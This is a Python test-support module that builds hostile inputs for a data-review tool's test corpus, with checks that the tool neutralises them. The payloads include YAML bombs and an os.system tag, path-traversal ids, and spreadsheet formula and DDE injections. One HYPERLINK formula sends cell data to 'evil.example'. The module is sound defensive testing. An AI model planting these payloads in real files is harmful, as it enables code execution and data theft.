"""Setups of the hostile corpus (tests/corpus/hostile/manifest.yaml): each makes one input hostile.

A setup ``f(world)`` changes the case's private world (``data/`` copied from the
repository, ``outputs/`` with an earlier report) before the command runs. Big files,
pipes and devices are made here, never committed. Checks ``check_*(world)`` verify
what a command that is meant to succeed wrote (the outputs family).
"""

from __future__ import annotations

import io
import json
import os
import shutil
import zipfile
from pathlib import Path

from .intake_support import cp1258_bytes

SAMPLE = "data/reviews/ct20-2012-2017.yaml"
HOSTILE = "data/reviews/hostile.yaml"
LAUGHS = "".join([f"lol{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" if i else 'lol0: &l0 ["ha"]\n'
                  for i in range(10)])


def _edit(world: Path, relative: str, change) -> Path:
    path = world / relative
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
    return path


def _config(world: Path, change=lambda text: text) -> Path:
    """data/reviews/hostile.yaml: the sample review (narratives and all) with ``change`` applied."""
    text = (world / SAMPLE).read_text(encoding="utf-8")
    (world / HOSTILE).write_text(change(text), encoding="utf-8")
    return world / HOSTILE


def _replace(path: Path, make) -> None:
    """Replace a file by something else (a pipe, a link, a folder)."""
    path.unlink()
    make(path)


def _key(line_start: str, new: str):
    return lambda text: "\n".join(new if line.startswith(line_start) else line for line in text.split("\n"))


# ------------------------------------------------------------------ review configs

def config_billion_laughs(world): _config(world, lambda t: t + LAUGHS)
def config_huge(world): _config(world, lambda t: t + ("# " + "x" * 98 + "\n") * 16_000)     # 1.6 MB of comments
def config_deep(world): _config(world, lambda t: t + "recipients: " + "[" * 5000 + "]" * 5000 + "\n")
def config_alias_cycle(world): _config(world, lambda t: t + "extra: &r [a, *r]\n")
def config_pipe(world): os.mkfifo(world / HOSTILE)
def config_dev_zero(world): (world / HOSTILE).symlink_to("/dev/zero")
def config_folder(world): (world / HOSTILE).mkdir()
def config_empty(world): (world / HOSTILE).write_text("", encoding="utf-8")
def config_list(world): (world / HOSTILE).write_text("- id: a\n- id: b\n", encoding="utf-8")
def config_duplicate_key(world): _config(world, lambda t: t + "id: other\n")
def config_id_dotdot(world): _config(world, _key("id:", "id: ../../escape"))
def config_id_absolute(world): _config(world, _key("id:", "id: /tmp/escape"))
def config_years_reversed(world): _config(world, _key("first_year:", "first_year: 2018"))
def config_year_huge(world): _config(world, _key("last_year:", "last_year: 99999999"))
def config_year_text(world): _config(world, _key("last_year:", 'last_year: "2017"'))
def config_bad_date(world): _config(world, _key("date:", "date: 31/02/2017"))
def config_tab(world): _config(world, lambda t: t.replace("  vi: UBND huyện Cam Lộ", "\tvi: UBND huyện Cam Lộ"))
def config_unclosed_quote(world): _config(world, _key("place:", 'place: "Cam Lộ'))
def config_control_char(world): _config(world, _key("place:", 'place: "Cam Lộ\\x07"'))
def config_python_tag(world): _config(world, _key("place:", 'place: !!python/object/apply:os.system ["echo pwned"]'))
def config_nul(world): _config(world, lambda t: t.replace("place: Cam Lộ", "place: Cam\0 Lộ"))
def config_unknown_indicator(world): _config(world, lambda t: t.replace("indicators:\n", "indicators:\n  - NOPE\n"))
def config_missing_key(world): _config(world, _key("area:", "# no area"))
def config_no_data(world): _config(world, _key("data:", "data: ../nowhere"))
def config_future_only(world): _config(world, lambda t: _key("first_year:", "first_year: 2023")(
    _key("last_year:", "last_year: 2023")(_key("cutoff:", "cutoff: 2023-12-31")(_key("date:", "date: 2024-01-15")(t)))))


def config_cp1258(world):
    (world / HOSTILE).write_bytes(cp1258_bytes((world / SAMPLE).read_text(encoding="utf-8")))


def config_binary(world):
    (world / HOSTILE).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)


# ------------------------------------------------------------------ catalogs

CATALOG = "data/catalog"


def catalog_billion_laughs(world): _edit(world, f"{CATALOG}/org_units.yaml", lambda t: t + LAUGHS)
def catalog_pipe(world): _replace(world / CATALOG / "data_elements.yaml", os.mkfifo)
def catalog_dev_zero(world): _replace(world / CATALOG / "indicators.yaml", lambda p: p.symlink_to("/dev/zero"))
def catalog_folder(world): _replace(world / CATALOG / "org_units.yaml", lambda p: p.mkdir())
def catalog_missing(world): (world / CATALOG / "indicators.yaml").unlink()
def catalog_huge(world): _edit(world, f"{CATALOG}/org_units.yaml", lambda t: t + ("# " + "x" * 98 + "\n") * 16_000)
def catalog_duplicate(world): _edit(world, f"{CATALOG}/data_elements.yaml", lambda t: t.replace(
    "elements:\n", "elements:\n", 1) + "elements: []\n")
def catalog_control_char(world): _edit(world, f"{CATALOG}/org_units.yaml", lambda t: t.replace(
    "name: Xã Cam Thành,", 'name: "Xã Cam Thành\\e[2J",'))
def rules_billion_laughs(world): _edit(world, f"{CATALOG}/validation_rules.yaml", lambda t: t + LAUGHS)
def rules_pipe(world): _replace(world / CATALOG / "validation_rules.yaml", os.mkfifo)


def catalog_cp1258(world):
    path = world / CATALOG / "org_units.yaml"
    path.write_bytes(cp1258_bytes(path.read_text(encoding="utf-8")))


# ------------------------------------------------------------------ narratives

NARRATIVE = "data/reviews/ct20-2012-2017.vi.md"


def narrative_10mb_line(world): _edit(world, NARRATIVE, lambda t: t + "x" * 10_000_000 + "\n")
def narrative_long_line(world): _edit(world, NARRATIVE, lambda t: t + "Đoạn văn " * 4000 + "\n")
def narrative_huge(world): _edit(world, NARRATIVE, lambda t: t + ("Đoạn văn dài. " * 6 + "\n") * 16_000)
def narrative_pipe(world): _replace(world / NARRATIVE, os.mkfifo)
def narrative_dev_zero(world): _replace(world / NARRATIVE, lambda p: p.symlink_to("/dev/zero"))
def narrative_folder(world): _replace(world / NARRATIVE, lambda p: p.mkdir())
def narrative_control_char(world): _edit(world, NARRATIVE, lambda t: t + "Chữ \x1b[31mđỏ\n")


def narrative_cp1258(world):
    path = world / NARRATIVE
    path.write_bytes(cp1258_bytes(path.read_text(encoding="utf-8")))


# ------------------------------------------------------------------ the store

VALUES = "data/values"


def values_pipe(world): _replace(world / VALUES / "cam-lo-2013.csv", os.mkfifo)
def values_dev_zero(world): _replace(world / VALUES / "cam-lo-2013.csv", lambda p: p.symlink_to("/dev/zero"))
def values_long_cell(world): _edit(world, f"{VALUES}/cam-lo-2013.csv", lambda t: t.rstrip("\n") + "x" * 40_000 + "\n")
def values_control_char(world): _edit(world, f"{VALUES}/cam-lo-2013.csv", lambda t: t.rstrip("\n") + "\x08\n")
def values_is_file(world):
    shutil.rmtree(world / VALUES)
    (world / VALUES).write_text("not a folder\n", encoding="utf-8")
def log_pipe(world): os.mkfifo(world / "data" / "imports.csv")
def returns_folder(world): (world / VALUES / "returns-2023.csv").mkdir()


def values_cp1258(world):
    path = world / VALUES / "cam-lo-2013.csv"
    path.write_bytes(cp1258_bytes(path.read_text(encoding="utf-8").replace("data/generate.py", "dữ liệu")))


def _journal(world: Path, record: bytes) -> None:
    journal = world / "data" / ".import.journal"
    journal.mkdir()
    (journal / ".evaltools-journal.json").write_bytes(record)


def journal_corrupt(world): _journal(world, b'{"root": ".", "files": [')
def journal_lost_file(world): _journal(world, json.dumps({
    "root": ".", "committed": 1, "remove": [],
    "files": [{"path": "values/cam-lo-2013.csv", "sha256": "0" * 64}]}).encode())


# ------------------------------------------------------------------ outputs

REVIEW_OUT = "outputs/ct20-2012-2017"


def outputs_id_is_file(world):
    _replace_tree(world / REVIEW_OUT)
    (world / REVIEW_OUT).write_text("a file where the review's folder belongs\n", encoding="utf-8")


def _replace_tree(folder: Path) -> None:
    for path in sorted(folder.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()
    folder.rmdir()


def outputs_csv_is_folder(world): (world / REVIEW_OUT / "indicators.csv").mkdir()
def out_is_file(world): (world / "plain-file").write_text("x\n", encoding="utf-8")


def formula_names(world):
    """Names a spreadsheet would run: a commune, an indicator and an option."""
    _edit(world, f"{CATALOG}/org_units.yaml", lambda t: t.replace(
        "name: Xã Cam Thành,", "name: '=HYPERLINK(\"http://evil.example/\"&A1,\"Cam Thành\")',"))
    _edit(world, f"{CATALOG}/indicators.yaml", lambda t: t.replace(
        '{vi: "Trẻ em dưới 16 tuổi", en: "Children under 16"}', '{vi: "+cmd|\' /C calc\'!A0", en: "@SUM(1+1)*cmd"}'))


def formula_names_and_a_gap(world):
    """The names above, and Cam Thành's 2016 return missing: a finding names the commune."""
    formula_names(world)
    _edit(world, f"{VALUES}/cam-lo-2016.csv", lambda t: "".join(
        line for line in t.splitlines(keepends=True) if ",19612," not in line))


def check_indicators_csv(world):
    text = (world / REVIEW_OUT / "indicators.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "'+cmd|" in text
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]


def check_findings_csv(world):
    text = (world / "findings.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "\n=" not in text and ",=" not in text


def check_indicators_xlsx(world):
    import openpyxl

    from evaltools.dataset.context import open_review
    from evaltools.export.xlsx import indicators_xlsx

    book = openpyxl.load_workbook(io.BytesIO(indicators_xlsx(open_review(world / SAMPLE, "en"), "en")))
    texts = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in texts if c.value.startswith(("=", "+", "@"))]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


def check_docx(world):
    from evaltools.export import to_docx_from_html

    page = ("<html><body><h1>=cmd|' /C calc'!A0</h1><p>{ DDEAUTO c:\\\\windows\\\\calc.exe }</p>"
            "<p>&lt;w:fldSimple w:instr=\"DDE\"/&gt; <script>alert(1)</script></p></body></html>")
    with zipfile.ZipFile(io.BytesIO(to_docx_from_html(page, "vi", "t"))) as book:
        xml = book.read("word/document.xml").decode("utf-8")
    assert "=cmd|" in xml and "DDEAUTO" in xml                       # shown as text...
    assert "<w:fldSimple" not in xml and "<w:instrText" not in xml and "<w:fldChar" not in xml   # ...never a field


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def nothing(world):
    """No setup: the command line itself is hostile."""


# ------------------------------------------------------------------ the network (pull dhis2)

SERVERS: list = []          # the fake DHIS2 servers of the running case, stopped by stop_servers()
SAVED = "dhis2-X-2023.json"


def _server(behaviour: str, **kw):
    from .fake_dhis2 import Server

    server = Server(behaviour, **kw)
    SERVERS.append(server)
    return server


def stop_servers() -> None:
    """Stop every fake server a case started (the world fixture's teardown)."""
    while SERVERS:
        SERVERS.pop().stop()


def _redirecting(location_of, **kw) -> dict[str, str]:
    """A server that redirects to ``location_of(target)``, ``target`` being a good server elsewhere."""
    target = _server("ok", host=kw.pop("target_host", "127.0.0.1"))
    first = _server("redirect", location=location_of(target) + "/api/dataValueSets.json", **kw)
    return {"$SERVER": first.url}


def redirect_other_port(world): return _redirecting(lambda t: t.url)
def redirect_other_host(world): return _redirecting(lambda t: t.url, target_host="127.0.0.2")


def redirect_https_to_http(world):
    """A TLS server (a self-signed certificate, trusted through SSL_CERT_FILE) redirecting to plain http."""
    from .fake_dhis2 import self_signed

    tls = self_signed(world.parent / f"{world.name}-tls")
    names = _redirecting(lambda t: t.url, tls=tls)
    return {**names, "$CERT": str(tls / "cert.pem")}


def server_drip(world): return {"$SERVER": _server("drip").url}
def server_stall(world): return {"$SERVER": _server("stall").url}
def server_short(world): return {"$SERVER": _server("short").url}
def server_long(world): return {"$SERVER": _server("long").url}
def server_duplicate(world): return {"$SERVER": _server("duplicate").url}


def check_no_credentials_elsewhere(world):
    """The server redirected to got no request at all (so no credentials), and nothing was saved."""
    first, *others = sorted(SERVERS, key=lambda s: s.behaviour != "redirect")
    assert [auth for _, auth in first.seen] in (["ApiToken d2pat_hostile"], ["Basic YW5hbHlzdDpzM2NyZXQ="])   # analyst:s3cret
    assert all(not s.seen for s in others)
    check_nothing_saved(world)


def check_nothing_saved(world):
    assert not (world / SAVED).exists() and not list(world.glob(".dhis2-*"))


# ------------------------------------------------------------------ outputs written into the data folder

def link_to_values(world): (world / "lnk").symlink_to(world / VALUES)
def outputs_folder_into_values(world):
    (world / "outputs").rename(world / "outputs-earlier")
    (world / "outputs").symlink_to(world / VALUES)


# ------------------------------------------------------------------ links in the outputs folder

def _elsewhere(world: Path) -> Path:
    """A folder beside the project (never inside it), one per case."""
    return world.parent / f"{world.name}-elsewhere"


def review_out_to_values(world):
    _replace_tree(world / REVIEW_OUT)
    (world / REVIEW_OUT).symlink_to(world / VALUES)


def review_out_elsewhere(world):
    """outputs/<id> a link to a folder outside the project that holds a failed/ folder."""
    outside = _elsewhere(world)
    (outside / "failed").mkdir(parents=True)
    (outside / "failed" / "keep.txt").write_text("not evaltools'\n", encoding="utf-8")
    _replace_tree(world / REVIEW_OUT)
    (world / REVIEW_OUT).symlink_to(outside)


def check_elsewhere_untouched(world):
    outside = _elsewhere(world)
    assert sorted(p.relative_to(outside).as_posix() for p in outside.rglob("*")) == ["failed", "failed/keep.txt"]
    assert (outside / "failed" / "keep.txt").read_text(encoding="utf-8") == "not evaltools'\n"


def review_out_loop(world):
    _replace_tree(world / REVIEW_OUT)
    (world / REVIEW_OUT).symlink_to(world / REVIEW_OUT)


def review_out_loop_pair(world):
    _replace_tree(world / REVIEW_OUT)
    (world / REVIEW_OUT).symlink_to(world / "outputs" / "other")
    (world / "outputs" / "other").symlink_to(world / REVIEW_OUT)


# ------------------------------------------------------------------ duplicate keys in DHIS2 JSON

def _value(element: str, value: str, extra: str = "") -> str:
    return (f'{{"dataElement": "{element}", "period": "2023", "orgUnit": "19606", "categoryOptionCombo": "default", '
            f'"value": "{value}"{extra}}}')


def _dhis2_file(world, values: list[str], top: str = "") -> None:
    """d.json, written as text (a dict could not hold the duplicate keys); codes as idScheme CODE."""
    (world / "d.json").write_text('{"dataElementIdScheme": "CODE", "orgUnitIdScheme": "CODE", ' + top
                                  + '"dataValues": [' + ", ".join(values) + "]}", encoding="utf-8")


GOOD = [_value("CHILDREN", "1500"), _value("CHILDREN_U6", "400"), _value("ALLOWANCE_TOTAL", "12")]


def dhis2_value_twice(world): _dhis2_file(world, GOOD + [_value("CSC_CHILDREN", "30", ', "value": "21"')])
def dhis2_values_twice(world): _dhis2_file(world, GOOD, top='"dataValues": [' + _value("CHILDREN", "1600") + "], ")
def dhis2_top_key_twice(world): _dhis2_file(world, GOOD, top='"orgUnit": "19606", "orgUnit": "19607", ')
def dhis2_element_twice(world): _dhis2_file(world, [_value("CHILDREN", "1500", ', "dataElement": "CHILDREN_U6"')] + GOOD)
def dhis2_nested_twice(world): _dhis2_file(world, GOOD[:1] + [_value("CSC_CHILDREN", "30", ', "x": {"a": 1, "a": 2}')])


# ------------------------------------------------------------------ hand-edited store files (kept refused)

def _store_row(world, change) -> None:
    """cam-lo-2013.csv with its second data row repeated at the end, changed by ``change``."""
    def edit(text):
        row = text.splitlines()[2]
        return text + change(row) + "\n"
    _edit(world, f"{VALUES}/cam-lo-2013.csv", edit)


def store_duplicate_row(world): _store_row(world, lambda row: row.replace(",1290,", ",91290,"))
def store_unknown_unit(world): _store_row(world, lambda row: row.replace(",19597,", ",99999,"))
def store_unknown_category(world): _store_row(world, lambda row: row.replace(",default,", ",nope,"))
